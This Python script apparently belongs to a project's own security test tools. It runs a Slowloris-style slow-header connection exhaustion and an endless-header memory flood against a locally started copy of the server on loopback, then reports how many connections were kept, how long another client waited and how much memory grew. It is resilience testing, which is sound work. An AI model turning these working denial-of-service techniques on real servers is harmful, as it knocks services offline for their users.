"""Take a server's connections and memory from one address, and see whether others still get in.

    python -m tools.attacks.connections [--files 256] [--connections 400] [--megabytes 40]

The server may open so many files. One address opens as many connections as it is let, and sends
headers slowly; somebody else then asks for something small. Then one header without end is sent.
Everything stays on loopback. One line of JSON tells how many connections were kept, how long the
other one waited (null: no answer within five seconds), and by how much memory grew.
"""

import argparse
import json
import socket
import time
from contextlib import closing, suppress
from typing import Final

from tools.attacks.target import HOST, Json, Target, address, served

ATTACKER: Final = address(5000)
OTHER: Final = address(1)
PATIENCE: Final = 5.0
MOST_CONNECTIONS: Final = 2000
MOST_MEGABYTES: Final = 100


def slow_heads(target: Target, count: int) -> list[socket.socket]:
    """Open connections that begin a request and never end it."""
    found: list[socket.socket] = []
    for _ in range(count):
        with suppress(OSError):
            wire = target.connect(ATTACKER)
            wire.sendall(b"GET / HTTP/1.1\r\nX-Slow: ")
            found.append(wire)
    return found


def still_open(wires: list[socket.socket]) -> int:
    """Return how many connections the server has kept."""
    kept = 0
    for wire in wires:
        wire.setblocking(False)
        try:
            wire.send(b"x")
            wire.recv(1)
        except BlockingIOError:
            kept += 1
        except OSError:
            pass
    return kept


def seconds_of_other(target: Target) -> float | None:
    """Return how long somebody else waits for something small."""
    began = time.monotonic()
    try:
        with closing(target.connect(OTHER)) as wire:
            wire.settimeout(PATIENCE)
            wire.sendall(f"GET /api/v1/identity HTTP/1.1\r\nHost: {HOST}\r\n\r\n".encode("ascii"))
            if not wire.recv(99).startswith(b"HTTP/1.1 401"):
                return None
    except OSError:
        return None
    return round(time.monotonic() - began, 3)


def endless_header(target: Target, megabytes: int) -> int:
    """Send one header that does not end; return how many bytes were taken."""
    sent = 0
    with suppress(OSError), closing(target.connect(ATTACKER)) as wire:
        wire.sendall(b"GET / HTTP/1.1\r\nX-Long: ")
        while sent < megabytes << 20:
            wire.sendall(b"x" * 65536)
            sent += 65536
    return sent


def attacked(target: Target, count: int, megabytes: int) -> Json:
    """Attack a server; return what came of it."""
    before = seconds_of_other(target)
    wires = slow_heads(target, count)
    time.sleep(1.0)
    kept = still_open(wires)
    during = seconds_of_other(target)
    for wire in wires:
        wire.close()
    time.sleep(1.0)
    memory = target.memory_bytes()
    taken = endless_header(target, megabytes)
    time.sleep(0.5)
    grown = target.memory_bytes() - memory
    return {
        "attack": "connections",
        "opened": len(wires),
        "kept": kept,
        "other_before_s": before,
        "other_during_s": during,
        "header_bytes_taken": taken,
        "memory_grown_bytes": grown,
    }


def main() -> None:
    """Read the command line and attack."""
    parser = argparse.ArgumentParser(description="Take a server's connections.")
    parser.add_argument("--files", type=int, default=256)
    parser.add_argument("--connections", type=int, default=400)
    parser.add_argument("--megabytes", type=int, default=40)
    given = parser.parse_args()
    with served(given.files) as target:
        count = min(given.connections, MOST_CONNECTIONS)
        print(json.dumps(attacked(target, count, min(given.megabytes, MOST_MEGABYTES))), flush=True)


if __name__ == "__main__":
    main()
